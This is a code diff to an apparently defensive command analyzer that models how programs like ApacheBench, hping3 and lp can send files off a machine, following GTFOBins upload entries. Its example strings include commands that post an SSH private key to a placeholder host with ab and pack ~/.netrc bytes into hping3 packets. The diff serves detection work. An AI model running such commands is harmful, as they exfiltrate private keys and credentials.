@@ -1963,6 +1963,37 @@ GH = Program(
 )
 
 
+# ---------------------------------------------------------------- senders of files GTFOBins lists (upload)
+
+AB = Program("ab", doc="ApacheBench: floods a URL with requests; -p/-u FILE is the body it POSTs/PUTs",
+             grammar=Grammar(values="ncptuTCHAPXBsgeE", long_values=()),
+             rows=(Row("ab.requests", "fetch", "ab sends many requests to a server", sets=("net_fetch",),
+                       examples=("ab -n 100 http://localhost:8080/",)),),
+             on=(On("send", ("option", "p", "u"), id="ab.body", says="sends (as each request's body)",
+                    examples=("ab -p ~/.ssh/id_rsa http://x.example/",)),))
+HPING = Program("hping3", aliases=("hping",), doc="crafts packets; --file puts a file's bytes in them",
+                grammar=Grammar(values="cidpsSwWtmIaEM", long_values=("file", "data", "count", "interface", "sign")),
+                rows=(Row("hping.packets", "expose", "{cmd} sends raw packets", examples=("hping3 -S -p 80 host",)),),
+                on=(On("send", ("option", "E", "file"), id="hping.file", examples=("hping3 host --file ~/.netrc -d 999",)),))
+
+
+@emits({"lp.remote": ["lp -h printer.example:631 report.pdf"], "lp.prints": ["lp report.pdf"]})
+def printing(cmd, o) -> None:
+    """lp/lpr FILE…: printed by the print server; `-h HOST` (lpr -H) names another machine's, which the files
+    are sent to."""
+    remote_server = o.value("h", "H")
+    for word in o.operands if cmd.name in ("lp", "lpr") else ():
+        if remote_server and remote_server.split(":", 1)[0] not in ("localhost", "127.0.0.1", "/run/cups/cups.sock"):
+            cmd.fired.add("lp.remote")
+            cmd.send(word, "sends to a print server")
+        else:
+            cmd.fired.add("lp.prints")
+            cmd.read(word, "prints")
+
+
+LP = Program("lp", aliases=("lpr",), doc="prints files (through a print server, maybe another machine's)",
+             grammar=Grammar(values="dnoqtHhPUJ#CT", long_values=()), hook=printing)
+
 # ---------------------------------------------------------------- VPNs, backups, remote mounts: their command options
 
 OPENVPN_SCRIPTS = ("up", "down", "route-up", "route-pre-down", "ipchange", "client-connect", "client-disconnect",
@@ -2047,4 +2078,4 @@ SSHFS = Program("sshfs", doc="mounts a remote directory over ssh", grammar=Gramm
 PROGRAMS = programs(SSH, AUTOSSH, MOSH, SSHPASS, SSH_COPY_ID, SCP, RSYNC, FTP, SMBCLIENT, TELNET, NC, NCAT, SOCAT,
                     WEBSOCAT, GETENT, CURL, WGET_PROGRAM, HTTPIE, GRPCURL, LOOKUP, OPENSSL, ARIA2, AXEL, BROWSER,
                     FETCH, MAIL, DROP, S3CMD,
-                    AZCOPY, RCLONE, SERVE, CADDY, GH, OPENVPN, BACKUPS, SSHFS)
+                    AZCOPY, RCLONE, SERVE, CADDY, GH, OPENVPN, BACKUPS, SSHFS, AB, HPING, LP)
